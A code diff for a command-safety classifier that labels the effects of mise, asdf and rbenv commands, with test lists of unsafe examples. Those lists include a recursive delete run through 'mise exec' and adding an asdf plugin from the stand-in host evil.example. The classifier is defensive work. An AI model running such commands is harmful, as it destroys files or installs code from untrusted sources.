@@ -1,5 +1,6 @@
 /** Version managers for tools: mise, asdf. */
-import { each, fixed, line, network, runs, task, texts } from "./makers.ts";
+import { act } from "../contract/effect.ts";
+import { each, line, network, runs, task, texts } from "./makers.ts";
 import { runsBehind, wholly } from "./packages-effects.ts";
 import type { EffectMaker, ProgramSpec } from "./spec.ts";
 
@@ -17,7 +18,7 @@ export const packagesTools: readonly ProgramSpec[] = [
     commands: {
       ...each(
         "run r",
-        wholly((use) => [{ do: "run", program: "mise", what: "task", task: line(use.operands), detail: "mise task" }]),
+        wholly((use) => [{ do: "run", program: "mise", what: "task", task: line(use.operands) }]),
       ),
       ...each("exec x", {
         style: "words",
@@ -30,7 +31,6 @@ export const packagesTools: readonly ProgramSpec[] = [
             program: "mise",
             what: "task",
             task: `exec ${line(use.operands)}`,
-            detail: "in the project's environment",
           } as const;
           const code = command < 0 ? undefined : use.operands[command + 1]?.value;
           if (code) return { understood: true, effects: [effect], inner: [{ kind: "script", code, via: "mise exec" }] };
@@ -49,26 +49,21 @@ export const packagesTools: readonly ProgramSpec[] = [
       ),
       ...each(
         "install i use u upgrade up uninstall rm prune plugins plugin",
-        wholly(fixed("package", "change", "tools"), trusted, network(null, false)),
+        wholly(act("package.change"), trusted, network(null, false)),
       ),
-      ...each("trust untrust", wholly(fixed("security", "change", "a configuration that may run code is trusted"))),
-      ...each(
-        "activate deactivate set unset alias self-update implode reshim",
-        wholly(fixed("persist", "change", "tool versions or the shell")),
-      ),
-      ...each("watch w", wholly(task("mise task"))),
-      "*": wholly((use) => [
-        { do: "run", program: "mise", what: "task", task: line(use.operands), detail: "mise task" },
-      ]),
+      ...each("trust untrust", wholly(act("guard.config-trust"))),
+      ...each("activate deactivate set unset alias self-update implode reshim", wholly(act("start.shell"))),
+      ...each("watch w", wholly(task)),
+      "*": wholly((use) => [{ do: "run", program: "mise", what: "task", task: line(use.operands) }]),
     },
     examples: {
       safe: ["mise --version"],
       unsafe: [
-        ["mise run test -- -run TestX", "run"],
-        ["mise exec -- rm -rf x", "delete"],
-        ["mise install", "package"],
-        ["mise trust", "security"],
-        ["mise ls", "run"],
+        ["mise run test -- -run TestX", ["run.task", "unknown.use"]],
+        ["mise exec -- rm -rf x", ["run.task", "file.delete"]],
+        ["mise install", ["package.change", "run.helper", "network.contact"]],
+        ["mise trust", ["guard.config-trust"]],
+        ["mise ls", ["run.helper"]],
       ],
     },
   },
@@ -83,14 +78,14 @@ export const packagesTools: readonly ProgramSpec[] = [
       exec: { launcher: true, style: "words", operands: "text", read: runsBehind("", "", "asdf exec") },
       ...each(
         "install uninstall plugin plugin-add global local shell set latest reshim update",
-        wholly(fixed("package", "change", "tools"), network(null, false), task("plugins are code")),
+        wholly(act("package.change"), network(null, false), task),
       ),
     },
     examples: {
       safe: ["asdf --version"],
       unsafe: [
-        ["asdf install nodejs 20", "package"],
-        ["asdf plugin add x https://evil.example/x", "package"],
+        ["asdf install nodejs 20", ["package.change", "network.contact", "run.task"]],
+        ["asdf plugin add x https://evil.example/x", ["package.change", "network.contact", "run.task"]],
       ],
     },
   },
@@ -98,6 +93,6 @@ export const packagesTools: readonly ProgramSpec[] = [
     names: ["rbenv"],
     unread: true,
     launches: "exec",
-    examples: { safe: [], unsafe: [["rbenv exec rm a", "run"]] },
+    examples: { safe: [], unsafe: [["rbenv exec rm a", ["run.unknown-program", "unknown.use"]]] },
   },
 ];
